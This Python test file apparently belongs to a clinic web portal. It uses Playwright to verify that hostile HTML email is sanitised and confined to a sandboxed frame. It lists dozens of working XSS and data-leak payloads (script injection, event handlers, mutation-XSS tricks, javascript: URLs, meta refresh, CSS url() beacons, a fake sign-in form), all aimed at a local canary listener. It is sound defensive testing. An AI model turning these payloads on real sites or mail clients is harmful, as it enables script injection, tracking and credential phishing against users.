"""A hostile mail in a browser that is free to fetch: nothing runs and nothing leaves, by either wall alone.

The browser keeps its own profile and its background networking, because only such a one opens connections ahead of need. A
canary listens for whatever a vector reaches; a page without walls shows that it hears.
"""

import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from email.message import EmailMessage
from email.utils import make_msgid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from portal.reading.read import Reading, View
from tests.browser.engine import Engine
from tests.browser.stage import AGENT, ALICE, CODE, LINK, WIDE, Stage, find, settled, until, words

SHOUT = "(top||self).name='ran';document.title='ran';parent.postMessage('ran','*');fetch('CANARY/script')"
VECTORS = [
    f"<script>{SHOUT}</script>",
    "<script src='CANARY/script-src'></script>",
    f"<img src='CANARY/nothing' onerror=\"{SHOUT}\">",
    f'<img src=x: onerror="{SHOUT}">',
    f"<svg onload=\"{SHOUT}\"><script>{SHOUT}</script><image href='CANARY/svg-image'/><use href='CANARY/use#x'/></svg>",
    f'<math><mtext><mglyph><style><img src=x: onerror="{SHOUT}"></style></mglyph></mtext></math>',
    f'<noscript><p title="</noscript><img src=x: onerror={SHOUT}>"></noscript>',
    f'<details open ontoggle="{SHOUT}">d</details>',
    f'<input autofocus onfocus="{SHOUT}">',
    f"<video autoplay onloadstart=\"{SHOUT}\" src='CANARY/video' poster='CANARY/poster'></video>",
    "<audio autoplay src='CANARY/audio'></audio>",
    f"<iframe srcdoc=\"<script>{SHOUT}</script><img src='CANARY/srcdoc'>\"></iframe>",
    "<iframe src='CANARY/iframe'></iframe>",
    f'<iframe src="javascript:{SHOUT}"></iframe>',
    "<object data='CANARY/object'></object>",
    "<embed src='CANARY/embed'>",
    "<meta http-equiv='refresh' content='0;url=CANARY/refresh'>",
    f"<meta http-equiv='refresh' content=\"0;url=javascript:{SHOUT}\">",
    "<meta http-equiv='Content-Security-Policy' content='report-uri CANARY/report'>",
    "<base href='CANARY/' target='_top'>",
    "<link rel='stylesheet' href='CANARY/stylesheet'>",
    "<link rel='preconnect' href='CANARY/'>",
    "<link rel='prefetch' href='CANARY/prefetch'>",
    "<link rel='preload' as='image' href='CANARY/preload'>",
    "<link rel='dns-prefetch' href='CANARY/'>",
    "<link rel='prerender' href='CANARY/prerender'>",
    "<link rel='icon' href='CANARY/icon'>",
    "<link rel='manifest' href='CANARY/manifest'>",
    (
        "<style>@import 'CANARY/import'; body{background:url(CANARY/style)} @font-face{font-family:f;src:url(CANARY/font)}"
        " *{font-family:f} h1{display:none!important}</style>"
    ),
    "<p style=\"background:url('CANARY/css')\">css</p>",
    "<p style=\"background:u\\72l('CANARY/css-escaped')\">css</p>",
    "<p style=\"list-style-image:image-set('CANARY/image-set' 1x)\">css</p>",
    '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red">over all</p>',
    "<table background='CANARY/table'><tr><td background='CANARY/td'>cell</td></tr></table>",
    "<body background='CANARY/body' onload=\"fetch('CANARY/onload')\">",
    "<img src='CANARY/img' width=1 height=1>",
    "<img srcset='CANARY/srcset 1x' alt=''>",
    "<picture><source srcset='CANARY/source'><img alt=''></picture>",
    "<img src='//127.0.0.1:PORT/protocol-relative'>",
    "<input type='image' src='CANARY/input'>",
    "<form action='CANARY/form' id='f'><input name='code' value='1'><button autofocus>Sign in</button></form>",
    f"<a id='js' href=\"javascript:{SHOUT}\">script link</a>",
    "<a id='top' target='_top' href='CANARY/top' ping='CANARY/ping'>link to the top</a>",
    "<a id='parent' target='_parent' href='/sign-out'>link to the parent</a>",
    f'<template><img src=x: onerror="{SHOUT}"></template>',
    "<frameset><frame src='CANARY/frame'></frameset>",
    f'<marquee onstart="{SHOUT}">m</marquee>',
    "</div></body></html><h1>Your session has ended</h1><form action='CANARY/after'><input name='password'></form>",
]
OWN = "The words of the letter."


class Canary:
    """A port on which nobody should call. `calls` holds what was sent there, nothing for a bare connection; `opened` counts both."""

    def __init__(self) -> None:
        self.calls: list[bytes] = []
        self.opened = 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self.opened += 1
            threading.Thread(target=self._hear, args=(connection,), daemon=True).start()

    def _hear(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(3)
            try:
                heard = connection.recv(500)
                connection.sendall(b"HTTP/1.1 204 Nothing\r\nConnection: close\r\n\r\n")
            except OSError:
                heard = b""
            self.calls.append(heard)

    def requests(self) -> list[str]:
        return [call.split(b"\r\n")[0].decode("latin-1") for call in self.calls if call]

    def close(self) -> None:
        self._listener.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    """A listening canary."""
    bird = Canary()
    yield bird
    bird.close()


@pytest.fixture
def context(engine: Engine, tmp_path: Path) -> Iterator[BrowserContext]:
    """A browser with a profile of its own that may connect ahead of need."""
    with engine.profiled(tmp_path / "profile", viewport=WIDE, user_agent=AGENT) as opened:
        yield opened


def hostile(canary: Canary, *, refresh: bool | None = None) -> str:
    """All vectors in one document; only those that reload the page, or only the others, when asked so."""
    chosen = [one for one in VECTORS if refresh is None or ("'refresh'" in one) is refresh]
    body = f"<p>{OWN}</p>\n" + "\n".join(chosen)
    return body.replace("CANARY", f"http://127.0.0.1:{canary.port}").replace("PORT", str(canary.port))


def mail(html: str) -> EmailMessage:
    made = EmailMessage()
    made["From"], made["Subject"] = "Mallory <carol@clinic.example>", "</title><script>top.name='ran'</script>"
    made["Message-ID"] = make_msgid(domain="clinic.example")
    made.set_content("Text.")
    made.add_alternative(html, subtype="html")
    return made


def opened(context: BrowserContext, stage: Stage, html: str) -> Page:
    """The message page with this mail in it."""
    page = context.new_page()
    page.goto(find(LINK, stage.announce(mail(html))))
    letter = stage.next_letter(ALICE, page.get_by_role("button", name="Send me a code").click)
    page.get_by_label("Code", exact=True).fill(find(CODE, words(letter)))
    page.get_by_role("button", name="Continue").click()
    expect(page.locator(".subject")).to_have_text("</title><script>top.name='ran'</script>")
    return page


def quiet(page: Page) -> None:
    """Waits until what might still be on its way would have arrived."""
    page.wait_for_load_state("networkidle")
    time.sleep(0.7)


def is_intact(page: Page, address: str) -> None:
    """Nothing ran, nothing navigated, and the portal's own page stands as it was."""
    assert page.evaluate("name") == ""
    assert page.url == address
    assert page.title() == "Your message - Northside Clinic"
    assert page.locator("h1").count() == 1
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    expect(page.get_by_role("link", name="Back to your messages")).to_be_visible()


def test_canary_hears_a_page_without_walls(context: BrowserContext, canary: Canary) -> None:
    """The positive control: the same document, served as it is, fetches all over the place."""
    document = hostile(canary).encode()
    loud = ("script-src", "stylesheet", "css", "img", "iframe", "refresh")

    class Bare(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(document)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class named it
            """Say nothing."""

    def all_heard() -> bool | None:
        context.pages[0].wait_for_timeout(50)
        heard = " ".join(canary.requests())
        return True if all(f"/{vector} " in heard for vector in loud) else None

    with ThreadingHTTPServer(("127.0.0.1", 0), Bare) as server:
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        context.new_page().goto(f"http://localhost:{server.server_port}/", wait_until="commit")
        until(all_heard, f"calls for {loud}")
        server.shutdown()
        thread.join()


def test_cleaned_mail_runs_nothing_and_reaches_nobody(context: BrowserContext, stage: Stage, canary: Canary) -> None:
    """As the portal shows it: no script, no request, not even a connection; the words are there and the page is whole."""
    page = opened(context, stage, hostile(canary))
    address = page.url
    settled(page)
    expect(page.frame_locator("iframe.mail").get_by_text(OWN)).to_be_visible()
    quiet(page)
    is_intact(page, address)
    markup = page.frames[1].content().lower()
    for gone in ("javascript:", "onerror", "<form", "<svg", "<object", 'http-equiv="refresh', "_top", "url("):
        assert gone not in markup, gone
    assert page.frames[1].evaluate("document.scripts.length") == 1
    for way in ("Print", "Open the message on its own page"):
        with context.expect_page() as other:
            page.get_by_role("link", name=way).click()
        expect(other.value.get_by_text(OWN)).to_be_visible()
        quiet(other.value)
        assert other.value.url.startswith(stage.portal)
        other.value.close()
    assert (canary.opened, canary.calls) == (0, [])


@pytest.mark.parametrize("kind", ["refresh", "rest"])
def test_frame_holds_alone_when_the_sanitiser_lets_all_through(
    context: BrowserContext, stage: Stage, canary: Canary, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """The second wall: the raw document in the frame, on its own page and for print runs nothing and sends no request."""
    real, raw = Reading.message, hostile(canary, refresh=kind == "refresh")

    async def unclean(self: Reading, *args: Any) -> View:
        view = await real(self, *args)
        return replace(view, rendition=replace(view.rendition, html=raw))

    page = opened(context, stage, "<p>A letter.</p>")
    address = page.url
    monkeypatch.setattr(Reading, "message", unclean)
    page.reload()
    if kind == "rest":  # a refresh is stopped by the page around it, and leaves the frame empty
        expect(page.frame_locator("iframe.mail").get_by_text(OWN)).to_be_visible()
    quiet(page)
    is_intact(page, address)
    for way in ("Print", "Open the message on its own page"):
        with context.expect_page() as other:
            page.get_by_role("link", name=way).click()
        expect(other.value.get_by_text(OWN)).to_be_visible()
        quiet(other.value)
        assert other.value.url.startswith(stage.portal)
        assert other.value.title() != "ran"
        other.value.close()
    assert canary.requests() == []
